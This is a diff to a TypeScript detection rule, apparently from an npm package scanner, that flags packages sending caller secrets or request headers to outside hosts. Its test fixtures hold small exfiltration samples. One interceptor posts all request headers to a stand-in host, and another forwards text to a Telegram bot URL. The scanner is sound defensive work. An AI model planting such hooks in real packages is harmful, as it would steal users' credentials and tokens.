@@ -1,5 +1,6 @@
 import { HOLE } from '../lib/types.ts'
 import type { Action, Context, Flow, Inspection, Rule } from '../lib/types.ts'
+import { computes, signs, spells } from './behaviour/computes.ts'
 import { keyMaterial } from './behaviour/credentials.ts'
 import { guardsInWords } from './behaviour/guards.ts'
 import { isStranger, placeInWords, placeOf } from './behaviour/place.ts'
@@ -31,7 +32,8 @@ export const callerSecretExfiltration: Rule = {
       'goes to the service it is for, and to nobody else: who gets it beside that service, beside another client it was ' +
       'given to, or beside the server it signs in to, is a stranger. No service takes a password or a recovery phrase in the ' +
       'address of a picture, in a name that is looked up, in a datagram or in a beacon that gets no answer. An object that is known to hold ' +
-      'such a secret, because the package reads it there, goes astray as the secret would. Also: anything its caller passes that ends in a mailbox ' +
+      'such a secret, because the package reads it there, goes astray as the secret would, and so do the headers of ' +
+      'requests that a hook sees, or what was put in the place of fetch. Also: anything its caller passes that ends in a mailbox ' +
       'written into the code, a bot or a webhook of the author.',
     references: [
       '@solana/web3.js 1.95.6 (December 2024)',
@@ -60,6 +62,14 @@ export const callerSecretExfiltration: Rule = {
             'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
             'i.js':
               "exports.decode = text => {\n  fetch('https://api.telegram.org/bot0000000000:AAInertInertInert/sendMessage?text=' + text)\n  return Buffer.from(text, 'hex')\n}\n",
+          },
+        },
+        {
+          title: 'a hook of the caller’s client that posts the headers it sees',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "exports.watch = client => client.interceptors.request.use(config => {\n  fetch('https://seen.invalid/h', { method: 'POST', body: JSON.stringify(config.headers) })\n  return config\n})\n",
           },
         },
         {
@@ -220,20 +230,6 @@ function leakOf(flow: Flow, inspection: Inspection, context: Context): readonly 
   return [{ flow, place, key: kind === 'caller-secret' && key, computes: works }]
 }
 
-/** Libraries of chains and signatures: there a secret key is a wallet, elsewhere half of an API key. */
-const signing =
-  /solana|ethers|ethereum|web3|viem|bitcoin|bip3[29]|bip44|secp256k1|ed25519|noble|tweetnacl|bs58|base58|wallet|keypair|ripple|aptos|polkadot|cosmos|mnemonic|(?:^|[^a-z])(?:xrp|tron|sui|near|ton|hd)(?:[^a-z]|$|l$|web)/i
-
-/** What signs, hashes and enciphers does so on the spot: there is no service that a secret could be for. */
-const computes =
-  /(?:^|[/._-])(?:jwt|jws|jwe|jose|paseto|hmac|totp|hotp|otp|bcrypt|argon2|scrypt|pbkdf2|ciphers?|encrypt(?:ion|or)?|crypt|hash(?:er|ing)?|aes|rsa|pgp|gpg|nacl|secretbox|passwords?|codecs?|bs58|base-?(?:\d{2,3}|x))(?:[._-]|$)/
-
-function signs({ manifest }: Inspection): boolean {
-  return [manifest.name ?? '', ...manifest.keywords, ...manifest.dependencies.map(({ name }) => name)].some(
-    word => signing.test(word),
-  )
-}
-
 /** A password, in what is sent rather than in a header that signs in. */
 function isPassword({ flow }: Leak): boolean {
   return (
@@ -383,7 +379,8 @@ function weigh(
   if (flow.source.kind === 'caller') {
     // A mailbox of the author's own, or a bare address, in whatever a package does for its caller.
     // A server of the author's that has no name yet is careless; a mailbox in the code serves nobody else.
-    return place.telling ? (sure && (works || place.host?.address !== true) ? 'block' : 'ask') : undefined
+    if (place.telling) return sure && (works || place.host?.address !== true) ? 'block' : 'ask'
+    return sure && spells.test(context.name) ? 'ask' : undefined
   }
   if (isCovert(flow)) return sure ? 'block' : 'ask'
   // A key the package made or asked for itself: what libraries make of it is a signature, as a rule.
@@ -391,6 +388,8 @@ function weigh(
   if (key) return sure ? 'block' : 'ask'
   // What somebody else sent to the program that uses this package is no way to sign in for it.
   if (/^request (?:authorization|cookie|password)$/i.test(flow.source.name)) return 'ask'
+  // What signs in to whatever servers a program speaks to is seen by a hook, and is for none beside them.
+  if (/^authorization of other requests$/.test(flow.source.name) && place.host !== undefined) return 'ask'
   // A header or a file that signs in somewhere else, as the content of a request.
   if (
     /^(?:authorization|service_?account(?:_?key)?)$/i.test(flow.source.name) &&
